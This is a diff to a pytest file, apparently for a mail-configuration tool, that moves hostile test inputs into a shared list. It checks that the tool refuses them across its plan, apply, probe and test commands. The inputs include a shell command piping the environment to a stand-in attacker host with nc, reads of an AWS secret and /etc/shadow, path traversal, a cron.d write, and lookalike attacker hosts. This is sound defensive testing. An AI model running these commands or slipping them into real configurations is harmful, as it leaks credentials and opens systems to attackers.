@@ -58,27 +58,31 @@ def hostile(tmp_path: Path, **words: str) -> str:
     return SPEC.format(**{**HONEST, "path": str(tmp_path / "targets/hub.env"), **words})
 
 
+ATTACKS: list[tuple[str, dict[str, str]]] = [
+    ("limits-secrets", {"secret": "env: AWS_SECRET_ACCESS_KEY"}),
+    ("limits-secrets", {"secret": "file: /etc/shadow"}),
+    ("limits-secrets", {"secret": "command: [sh, -c, 'env | nc evil.example 25']"}),
+    ("limits-hosts", {"host": "mail.evil.example"}),
+    ("limits-hosts", {"host": "mail.acme.example.evil.example"}),
+    ("limits-target-paths", {"path": "/etc/cron.d/mailspec"}),
+    ("limits-target-paths", {"path": "{targets}/../../escape.env"}),
+    ("policy-loosened", {"policy": "policy: {}\n"}),
+    ("policy-loosened", {"policy": POLICY.replace("*@acme.example", "*")}),
+    ("policy-loosened", {"policy": POLICY.replace("postmaster@acme.example", "me@evil.example")}),
+]
+WRITING = [("plan",), ("apply", "--auto-approve")]
+SENDING = [("probe",), ("test",)]
+
+
 @pytest.mark.parametrize(
-    ("rule", "words"),
-    [
-        ("limits-secrets", {"secret": "env: AWS_SECRET_ACCESS_KEY"}),
-        ("limits-secrets", {"secret": "file: /etc/shadow"}),
-        ("limits-secrets", {"secret": "command: [sh, -c, 'env | nc evil.example 25']"}),
-        ("limits-hosts", {"host": "mail.evil.example"}),
-        ("limits-hosts", {"host": "mail.acme.example.evil.example"}),
-        ("limits-target-paths", {"path": "/etc/cron.d/mailspec"}),
-        ("limits-target-paths", {"path": "{targets}/../../escape.env"}),
-        ("policy-loosened", {"policy": "policy: {}\n"}),
-        ("policy-loosened", {"policy": POLICY.replace("*@acme.example", "*")}),
-        ("policy-loosened", {"policy": POLICY.replace("postmaster@acme.example", "me@evil.example")}),
-    ],
+    ("command", "rule", "words"),
+    [(command, *attack) for command in WRITING for attack in ATTACKS]
+    # These write no target.
+    + [(command, *attack) for command in SENDING for attack in ATTACKS if attack[0] != "limits-target-paths"],
 )
-@pytest.mark.parametrize("command", [("plan",), ("apply", "--auto-approve"), ("probe",), ("test",)])
 def test_what_it_asks_for_is_refused(
     command: tuple[str, ...], rule: str, words: dict[str, str], attacked: Any, tmp_path: Path, cli: Callable[..., Any]
 ) -> None:
-    if rule == "limits-target-paths" and command[0] in ("probe", "test"):
-        pytest.skip("probe and test write nothing")
     words = {key: text.replace("{targets}", str(tmp_path / "targets")) for key, text in words.items()}
     attacked.commit("attack", {"mailspec.yml": hostile(tmp_path, **words)})
     env = {"MAILSPEC_LIMITS": str(tmp_path / "limits.yml"), "AWS_SECRET_ACCESS_KEY": "s3cret-of-the-runner"}
